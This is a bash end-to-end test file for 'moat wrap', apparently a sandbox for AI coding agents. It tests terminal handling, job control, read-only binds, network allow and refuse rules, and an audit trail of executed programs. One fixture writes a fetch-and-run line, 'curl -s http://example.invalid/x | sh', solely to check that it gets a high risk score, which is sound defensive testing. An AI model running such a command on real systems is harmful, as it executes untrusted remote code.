#!/bin/bash
# wrap.sh: moat wrap, driven as a user at a terminal would (ttydrive.py):
# a scripted interactive agent installed under a fake npm-global prefix
# with its interpreter under nvm, found through PATH, its link and its #!
# line, and bound; its output, a resize reaching it, its exit status, ^C,
# job control on the sandbox's terminal, the host terminal restored, the
# line at the end, the run in the audit as source "wrap", the profile
# chosen by the agent's name.
. "$(dirname "$0")/libtest.sh"
require_sandbox
command -v python3 >/dev/null || skip_all "no python3 for the terminal driver"

npm=$HOME/.npm-global nvm=$HOME/.nvm/versions/node/v20.1.0
mkdir -p "$npm/bin" "$npm/lib/node_modules/fake/bin" "$nvm/bin"
printf '#!/usr/bin/env fakenode\n' >"$npm/lib/node_modules/fake/bin/cli.js"
chmod 755 "$npm/lib/node_modules/fake/bin/cli.js"
ln -s ../lib/node_modules/fake/bin/cli.js "$npm/bin/fakeagent"
ln -s ../lib/node_modules/fake/bin/cli.js "$npm/bin/claude"
cat >"$nvm/bin/fakenode" <<'AGENT'
#!/bin/sh
echo "agent ready $(stty size) as $(basename "$1")"
trap 'echo "resized $(stty size)"' WINCH
while :; do
	if read -r line; then
		case $line in
		quit) echo bye; exit 7 ;;
		fullscreen) printf '\033[?1049h\033[?25lFULL\n' ;;
		*) echo "you said $line" ;;
		esac
	fi
done
AGENT
chmod 755 "$nvm/bin/fakenode"
mkdir -p "$XDG_CONFIG_HOME/moat/profiles"
printf 'include = default\nagent-command = fakeagent\ntimeout = 0\nidle-timeout = 1m\nexec-trail = yes\n' \
    >"$XDG_CONFIG_HOME/moat/profiles/fake.conf"
export PATH="$npm/bin:$nvm/bin:/usr/bin:/bin"

drive() {	# drive STEP... -- CMD...: sets $res (rc, termios) and $o (output)
	res=$(cd "$T/ws" && python3 "$MOAT_SRCDIR/tests/e2e/ttydrive.py" \
	    --out "$T/tty.out" "$@" 2>"$T/tty.err")
	o=$(cat -v "$T/tty.out" 2>/dev/null)
	[ -s "$T/tty.err" ] && diag "$(cat "$T/tty.err")"
}

run_moat run -q -p fake -- fakeagent
is "without wrap the agent is hidden: 127" "$rc" 127

drive 'wait:agent ready' 'send:hello\r' 'wait:you said hello' 'resize:30x100' \
    'wait:resized 30 100' 'send:quit\r' 'wait:bye' -- "$MOAT" wrap -- fakeagent
like "wrap: the agent found through its link and #! line, and run" "$o" \
    'agent ready 24 80 as fakeagent'
like "wrap: keys reach it and its output comes back" "$o" 'you said hello'
like "wrap: a resize reaches it (SIGWINCH, the new size)" "$o" 'resized 30 100'
like "wrap: its exit status passes through" "$res" '^rc=7$'
like "wrap: the terminal's settings are restored" "$res" 'termios=same'
like "wrap: one line at the end" "$o" \
    'moat wrap: exit 7 after [0-9.]+s; [0-9]+ programs; net 0 allowed, 0 refused; peak memory [^;]+; risk [0-9]+; run [0-9a-f]+-[0-9]+-[0-9a-f]+'
id=$(printf '%s' "$o" | sed -n 's/.*; run \([0-9a-f-]*\).*/\1/p' | tail -1)
run_moat audit list --agent wrap --json
like "the run is in the audit with source wrap" "$out" "\"run_id\":\"${id:-no-id}\""
run_moat audit list --agent cli --json
unlike "and not as a moat run" "$out" "${id:-no-id}"
run_moat audit replay "${id:-no-id}" --no-wait
is "audit replay of the wrapped session: exit 0" "$rc" 0
like "audit replay: the agent's session as it drew it, keys echoed and answers" \
    "$(printf '%s' "$out" | tr -d '\r' | tr '\n' ' ')" \
    'agent ready 24 80 as fakeagent hello you said hello .*resized 30 100 quit bye'

drive 'wait:agent ready' 'send:fullscreen\r' 'wait:FULL' 'send:\x03' -- "$MOAT" wrap -q -- fakeagent
like "^C: the agent dies of SIGINT, 130" "$res" '^rc=130$'
like "^C in a full-screen agent: the terminal's settings are restored" "$res" 'termios=same'
like "^C in a full-screen agent: the alternate screen is left" "${o#*FULL}" '\^\[\[\?1049l'
run_moat audit list --agent wrap --json	# the ^C run: -q, no line at the end
id=$(printf '%s' "$out" | sed -n 's/.*"run_id":"\([^"]*\)".*"exit_code":130.*/\1/p' | head -1)
run_moat audit show "${id:-no-id}"
like "audit show: the terminal's output as the text it drew" "$out" \
    'stdout \([0-9]+ bytes; as the text a terminal drew, --json has the bytes\):
agent ready 24 80 as fakeagent
fullscreen
FULL'
unlike "audit show: no escape codes in that text" "$(printf '%s' "$out" | sed -n '/^stdout/,/^record/p')" '\\x1b'


drive 'wait:[$#] $' 'send:sleep 30\r' 'sleep:0.5' 'send:\x1a' 'wait:Stopped' \
    'send:kill -9 %1; sleep 0.3; jobs\r' 'sleep:0.6' 'send:exit 4\r' -- "$MOAT" wrap -q -p fake -- bash --norc --noprofile -i
like "job control: ^Z stops a job of the wrapped shell" "$o" 'Stopped.*sleep 30'
like "job control: the shell goes on and exits with its status" "$res" '^rc=4$'

# ^Z on the agent's terminal suspends moat to the shell that started it,
# as a job of that shell (dash -i here: it does not reset the terminal of
# a stopped job itself, so what it shows is what moat left), and fg
# brings it back: raw again, the agent's alternate screen on again, the
# new size passed on, the agent continued where it was.
sh_prompt='wait:[$#] $'
drive "$sh_prompt" "send:$MOAT wrap -q -p fake -- fakeagent\r" 'wait:agent ready' \
    'send:fullscreen\r' 'wait:FULL' 'send:\x1a' 'wait:Stopped' "$sh_prompt" \
    'send:stty -a | tr " " "\\n" | grep -x -- "-*icanon"; echo tty-$((1+1))\r' \
    'wait:tty-2' "$sh_prompt" 'mark:stopped' 'resize:30x100' 'send:fg\r' 'wait:resized 30 100' \
    'send:hello\r' 'wait:you said hello' 'send:quit\r' 'wait:bye' "$sh_prompt" \
    'send:echo "rc=$?"\r' 'wait:rc=[0-9]+' "$sh_prompt" 'send:exit\r' -- sh -i
flat=$(printf '%s' "$o" | sed 's/\^M//g' | tr '\n' ' ')
like "^Z: the wrapped agent stops and moat with it: the shell's job is stopped" "$flat" \
    'FULL .*Stopped +[^ ]*moat wrap -q -p fake -- fakeagent'
like "^Z: the alternate screen is left before the shell shows the stop" "$flat" \
    'FULL \^Z\^\[\[\?1049l\^\[\[\?25h[^ ]* *\+ Stopped'
like "^Z: the shell finds its terminal cooked (icanon), not raw" "$flat" ' icanon tty-2 '
unlike "^Z: not raw (-icanon)" "$flat" ' -icanon '
after=$(printf '%s' "$res" | sed -n 's/^mark:stopped=//p')
like "fg: the agent goes on, its alternate screen on again, the new size reaches it" \
    "$(tail -c +"${after:-1}" "$T/tty.out" | tr -d '\r' | cat -v | tr '\n' ' ')" \
    '^ *fg [^ ]*moat wrap -q -p fake -- fakeagent \^\[\[\?1049h\^\[\[\?25lresized 30 100 '
like "fg: keys reach it again and it answers" "$flat" 'resized 30 100 .*hello .*you said hello'
like "fg: its exit status passes through to the shell" "$flat" 'bye .*rc=7 '
like "^Z and fg: the terminal's settings are restored at the end" "$res" 'termios=same'

# Killed while stopped: the signal waits until fg, then ends the agent as
# any signal to moat does, the terminal restored on the way out.
drive "$sh_prompt" "send:$MOAT wrap -q -p fake -- fakeagent\r" 'wait:agent ready' \
    'send:fullscreen\r' 'wait:FULL' 'send:\x1a' 'wait:Stopped' "$sh_prompt" \
    'send:kill %1; fg; echo "rc=$?"\r' 'wait:rc=[0-9]+' "$sh_prompt" 'send:exit\r' -- sh -i
flat=$(printf '%s' "$o" | sed 's/\^M//g' | tr '\n' ' ')
like "killed while stopped: on fg it ends of SIGTERM, 143" "$flat" 'rc=143 '
like "killed while stopped: the alternate screen left last" "$flat" '\^\[\[\?1049l\^\[\[\?25h *rc=143'
like "killed while stopped: the terminal's settings are restored" "$res" 'termios=same'

# An agent that stops itself (SIGTSTP to its own process, as a raw-mode
# agent does for its ^Z key) suspends moat the same way; moat run shares
# the relay.
drive "$sh_prompt" "send:$MOAT run -q -p fake -- sh -c 'echo \"be\"\"fore\"; kill -TSTP \$\$; echo \"af\"\"ter\"; exit 5'\r" \
    'wait:before' 'wait:Stopped' "$sh_prompt" 'send:fg\r' 'wait:after' "$sh_prompt" \
    'send:echo "rc=$?"\r' 'wait:rc=[0-9]+' "$sh_prompt" 'send:exit\r' -- sh -i
flat=$(printf '%s' "$o" | sed 's/\^M//g' | tr '\n' ' ')
like "its own SIGTSTP: moat run stops as a job of the shell" "$flat" ' before .*Stopped'
like "fg: it goes on after the stop and its status passes through" "$flat" 'Stopped.* after .*rc=5 '
like "its own SIGTSTP: the terminal's settings are restored at the end" "$res" 'termios=same'
# Keys not from the terminal (stdin elsewhere): moat has no terminal to
# hand back, so the command goes on at once, as the kernel had it.
drive 'wait:after' -- sh -c "\"\$0\" run -q -p fake -- sh -c 'echo before; kill -TSTP \$\$; echo after; exit 3' </dev/null" "$MOAT"
like "its own SIGTSTP, stdin not a terminal: it goes on and ends, 3" "$res" '^rc=3$'

# What wrap binds of the install is read-only: the agent cannot rewrite
# itself or its interpreter for the next session.
run_moat wrap -q -p fake -- sh -c "echo x >>'$npm/lib/node_modules/fake/bin/cli.js' 2>/dev/null && echo wrote-agent; echo x >>'$nvm/bin/fakenode' 2>/dev/null && echo wrote-node; echo done"
is "the agent's install and interpreter are read-only inside" "$out" "done"
check "and unchanged on the host" grep -qx '#!/usr/bin/env fakenode' "$npm/lib/node_modules/fake/bin/cli.js"

run_moat profiles show fake
like "profiles show: the agent as PATH finds it, link and interpreters" "$out" \
    "found +$npm/bin/fakeagent -> ../lib/node_modules/fake/bin/cli.js \\(hidden by the profile: bound\\)
#   file +$npm/lib/node_modules/fake/bin/cli.js .*
# +interpreter /usr/bin/env
# +interpreter $nvm/bin/fakenode \\(hidden"
like "profiles show: the ro-bind lines wrap adds" "$out" \
    "ro-bind = $npm/bin +# from moat wrap"

# The shipped profile for Claude Code is chosen by the name "claude".
drive 'wait:agent ready' 'send:quit\r' -- "$MOAT" wrap -q -- claude
like "wrap -- claude: runs under the shipped claude-code profile" "$o" 'agent ready .* as claude'
run_moat audit list --agent wrap --json
like "wrap -- claude: recorded with profile claude-code" "$out" '"profile":"claude-code","net_mode":"restricted","risk":[0-9]+,"exit_code":7,"signal":null,"end_reason":"exited","argv":\["claude"\]'

drive 'wait:apply\?' 'send:y\r' -- "$MOAT" wrap --review -p fake -- sh -c 'echo hi >newfile'
like "--review: the line at the end counts the change" "$o" '; 1 files changed;'
like "--review: the change is listed before the question" "$o" 'added .*newfile  3 B'
is "--review: applied when answered y" "$(cat "$T/ws/newfile" 2>/dev/null)" hi
like "--review: the status" "$res" '^rc=0$'
drive 'wait:apply\?' 'send:n\r' -- "$MOAT" wrap --review -p fake -- sh -c 'echo no >other'
check "--review: not applied when answered n" test ! -e "$T/ws/other"

# The agent profiles record what the agent changed in the (bind) project.
run_moat run -v -p agent -- sh -c 'echo hi > agent-made'
like "the agent profile records a file the agent added to the project" "$err" "file: added .*/agent-made"
rm -f "$T/ws/agent-made"

# The exec trail: a pipeline, a subshell that forks, a background job and
# an exec that replaces its shell, each program under the right parent.
run_moat wrap -p fake -- sh -c 'echo a | tr a b; (ls -d / >/dev/null; true); sleep 0.2 & sh -c "exec cat /dev/null"; wait'
is "trail: the wrapped shell ran" "$rc|$out" "0|b"
like "trail: the line at the end counts the programs" "$err" '; 6 programs;'
id=$(printf '%s' "$err" | sed -n 's/.*; run \([0-9a-f-]*\).*/\1/p' | tail -1)
run_moat audit show "${id:-no-id}"
tree=$(printf '%s\n' "$out" | sed -n '/^programs/,/^$/p')
like "trail: audit show lists the programs" "$tree" '^programs \(6, as a tree by parent\):'
like "trail: the shell is the root" "$tree" '^ +[0-9.]+s \[[0-9]+\] sh -c echo a \| tr a b'
like "trail: the pipeline's tr under the shell" "$tree" '^ +[0-9.]+s   `- \[[0-9]+\] tr a b$'
like "trail: ls of the forked subshell under the shell" "$tree" '^ +[0-9.]+s   `- \[[0-9]+\] ls -d /$'
like "trail: the background job under the shell" "$tree" '^ +[0-9.]+s   `- \[[0-9]+\] sleep 0\.2$'
like "trail: the inner shell under the shell" "$tree" '^ +[0-9.]+s   `- \[([0-9]+)\] sh -c exec cat /dev/null$'
inner=$(printf '%s\n' "$tree" | sed -n 's/.*`- \[\([0-9]*\)\] sh -c exec cat.*/\1/p')
like "trail: cat, exec'd by the inner shell, under it with its pid" "$tree" \
    "^ +[0-9.]+s     \`- \\[${inner:-none}\\] cat /dev/null\$"
run_moat audit show "${id:-no-id}" --json
like "trail: each exec's text names the file and its arguments" "$out" \
    '"kind":"exec","name":"/usr/bin/tr","detail":"exec /usr/bin/tr: tr a b"'
like "trail: each exec is an event with pid, parent, cwd and argv" "$out" \
    '"kind":"exec","name":"/usr/bin/tr".*"extra":\{"pid":[0-9]+,"ppid":[0-9]+,"cwd":"[^"]*ws","argv":\["tr","a","b"\],"risk":0,"reasons":\[\]\}'

# Tries along PATH (env runs tr through execvp: a relative directory, two
# that do not exist, then the one that holds it) are not programs: tr is
# there once, under env, with its own pid; a name found nowhere leaves
# only env.
run_moat wrap -p fake -- sh -c 'PATH=nodir:/no/such/a:/no/such/b:/usr/bin:/bin; export PATH; echo a | env tr a b; env no-such-tool-$$ 2>/dev/null; true'
is "PATH tries: the wrapped shell ran" "$rc|$out" "0|b"
like "PATH tries: the line at the end counts the programs" "$err" '; 4 programs;'
id=$(printf '%s' "$err" | sed -n 's/.*; run \([0-9a-f-]*\).*/\1/p' | tail -1)
run_moat audit show "${id:-no-id}"
tree=$(printf '%s\n' "$out" | sed -n '/^programs/,/^$/p')
like "PATH tries: env under the shell" "$tree" '^ +[0-9.]+s   `- \[([0-9]+)\] env tr a b$'
envpid=$(printf '%s\n' "$tree" | sed -n 's/.*`- \[\([0-9]*\)\] env tr a b$/\1/p')
like "PATH tries: tr once, under env, with its pid" "$tree" \
    "^ +[0-9.]+s     \`- \\[${envpid:-none}\\] tr a b\$"
unlike "PATH tries: no try recorded (below the shell's line)" "$(printf '%s\n' "$tree" | sed 1,2d)" \
    'no/such|nodir|\] no-such-tool'
like "PATH tries: the name found nowhere leaves env" "$tree" "env no-such-tool-"

# A program found once is looked for again when its path is tried after
# it was deleted: that try is no program (the supervisor remembers the
# paths it found, and the batch looks again at those).
run_moat wrap -p fake -- sh -c 'cp /bin/true /tmp/prog-$$ && /tmp/prog-$$ && rm /tmp/prog-$$; PATH=/tmp:/usr/bin:/bin env prog-$$ 2>/dev/null; true'
like "deleted program: the line at the end counts the programs" "$err" '; 5 programs;'
id=$(printf '%s' "$err" | sed -n 's/.*; run \([0-9a-f-]*\).*/\1/p' | tail -1)
run_moat audit show "${id:-no-id}"
tree=$(printf '%s\n' "$out" | sed -n '/^programs/,/^$/p')
is "deleted program: run once, not tried again as a program" \
    "$(printf '%s\n' "$tree" | grep -c '\] /tmp/prog-[0-9]*$')" 1

# argv is bounded as it is read from the task: an argument past 512 bytes
# is cut there and the next one is whole (the strings lie together, read
# as one span); twenty of 1000 bytes (more than one span) stop at 8 KiB in
# all, each cut at 512.
run_moat wrap -p fake -- sh -c 'a=$(printf "%0700d" 0); /bin/echo x "$a" y >/dev/null; b=$(printf "1%0999d" 0); /bin/echo $b $b $b $b $b $b $b $b $b $b $b $b $b $b $b $b $b $b $b $b >/dev/null'
id=$(printf '%s' "$err" | sed -n 's/.*; run \([0-9a-f-]*\).*/\1/p' | tail -1)
run_moat audit show "${id:-no-id}" --json
z512=$(printf '%0512d' 0)
like "argv: a long argument cut at 512 bytes, the next one whole" "$out" \
    "\"argv\":\\[\"/bin/echo\",\"x\",\"$z512\",\"y\"\\]"
big=$(printf '%s\n' "$out" | grep -o '"argv":\["/bin/echo","10*"[^]]*\]' | head -1)
is "argv: past one span, the arguments up to 8 KiB, each cut at 512" \
    "$(printf '%s' "$big" | grep -o '"10*"' | awk '{ n++; if (length($0) != 514) bad++ } END { print n "/" bad+0 }')" "16/0"

# The riskiest program raises the run's score, though the command line
# itself is harmless.
printf 'sh -c "curl -s http://example.invalid/x | sh"\n' >"$T/ws/fetch.sh"
run_moat wrap -p fake -- sh fetch.sh
id=$(printf '%s' "$err" | sed -n 's/.*; run \([0-9a-f-]*\).*/\1/p' | tail -1)
run_moat audit show "${id:-no-id}"
like "trail: the run's risk is the riskiest program's" "$out" 'risk +[5-9][0-9] \(before the run: [0-9]\)'
like "trail: that program is marked in the tree" "$out" 'sh -c curl -s http://example.invalid/x \| sh  \(risk [5-9][0-9]\)'

# A wrapped shell that runs curl: one host allowed, one refused, both on
# the line at the end and in the run's events.
if command -v curl >/dev/null; then
	mkdir -p "$T/www" && echo "hello from the host" >"$T/www/hello.txt"
	www_start "$T/www"
	printf 'include = restricted\nagent-command = netagent\ntimeout = 0\nexec-trail = yes\nnet-allow = localhost:%s\n' "$P" \
	    >"$XDG_CONFIG_HOME/moat/profiles/net.conf"
	run_moat wrap -p net -- sh -c "curl -sS -m 10 http://host.moat.internal:$P/hello.txt; curl -fsS -m 10 -o /dev/null http://example.invalid/ 2>/dev/null; echo rc=\$?"
	like "net: the allowed host answers" "$out" 'hello from the host'
	like "net: the refused one does not" "$out" 'rc=[1-9]'
	like "net: the line at the end counts both" "$err" '; net 1 allowed, 1 refused;'
	id=$(printf '%s' "$err" | sed -n 's/.*; run \([0-9a-f-]*\).*/\1/p' | tail -1)
	run_moat audit show "${id:-no-id}"
	like "net: the refusal is an event of the wrapped run" "$out" 'net +refused example\.invalid:80'
	like "net: curl is on the trail" "$out" "\\] curl -sS -m 10 http://host.moat.internal:$P/hello.txt"
else
	for _ in 1 2 3 4 5; do skip "no curl on this machine"; done
fi

run_moat wrap -- no-such-agent
is "an agent that is not installed: 127" "$rc" 127
like "and what to do" "$err" 'no-such-agent: not found on your PATH'

done_testing
